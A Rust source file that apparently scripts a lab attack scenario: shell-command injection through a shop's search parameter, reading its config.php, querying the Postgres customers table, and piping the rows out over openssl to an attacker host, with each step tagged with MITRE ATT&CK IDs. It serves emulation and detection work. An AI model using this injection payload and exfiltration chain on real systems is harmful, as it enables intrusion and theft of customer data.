//! Through a hole in a shop, by nothing but what is there: its configuration is read, the database asked, and what it says sent away
//! enciphered. No file is made.
//!
//! Hard because: the shop starts the same shell for customers and asks the same database by the same program for each order.

use crate::Lab;
use crate::life::{database, shop};
use crate::network::get;
use crate::program::Program;
use anyhow::{Result, ensure};

pub fn run(lab: &mut Lab) -> Result<()> {
    let ((host, db), attacker) = (shop::company(lab, "shop-1", "db-3")?, lab.outsider("attacker")?);
    attacker.prepare(&Program::shell(
        "openssl req -x509 -newkey rsa:2048 -nodes -subj /CN=x -keyout /root/key.pem -out /root/cert.pem -days 2 2>/dev/null",
    ))?;
    let take =
        Program::shell("exec openssl s_server -accept 443 -key /root/key.pem -cert /root/cert.pem -quiet > /dev/null");
    attacker.start("take.service", &take)?;
    attacker.wait_for_port(443)?;
    lab.wait(12..18);
    shop::look_after(lab, &host)?;
    database::look_after(lab, &db)?;
    lab.wait(4..8);

    let attack = lab.attack("a database leaves by what is there")?;
    let call =
        |commands: &str| get(&attacker, host.address, 80, &format!("/search.php?q=lamp\" /dev/null; {commands} #"));
    let step = attack.step("a search runs commands", &["T1190", "T1059.004", "T1033"]);
    step.remote(&host, &attacker);
    let look = *lab.pick(&["uname -a", "uptime", "pwd"]);
    let said = call(&format!("{} id; {look}", step.mark(&host)?))?;
    ensure!(said.contains("uid=33"), "the hole is closed: {said}");
    drop(step);
    lab.wait(4..9);

    let step = attack.step("the configuration is read", &["T1083", "T1552.001"]);
    step.remote(&host, &attacker);
    let said = call(&format!("{} ls; cat config.php", step.mark(&host)?))?;
    ensure!(said.contains(&db.address.to_string()), "the configuration was not read: {said}");
    drop(step);
    lab.wait(4..9);

    let step = attack.step("the database is asked", &["T1213.006"]);
    step.remote(&host, &attacker);
    let psql = format!("psql -h {} -U postgres -t", db.address);
    let said = call(&format!("{} {psql} -c \"select relname from pg_stat_user_tables\" postgres", step.mark(&host)?))?;
    ensure!(said.contains("customers"), "the database was not asked: {said}");
    drop(step);
    lab.wait(4..9);

    let step = attack.step("customers leave enciphered", &["T1213.006", "T1048.002"]);
    step.remote(&host, &attacker);
    let (parts, to) = (lab.number(2..5), attacker.address);
    for part in 0..parts {
        let rows = format!("select * from customers where n % {parts} = {part}");
        call(&format!(
            "{} {psql} -c \"{rows}\" postgres | timeout 5 openssl s_client -quiet -connect {to}:443 2>/dev/null",
            step.mark(&host)?
        ))?;
        lab.wait(1..4);
    }
    drop(step);
    lab.wait(8..14);
    Ok(())
}
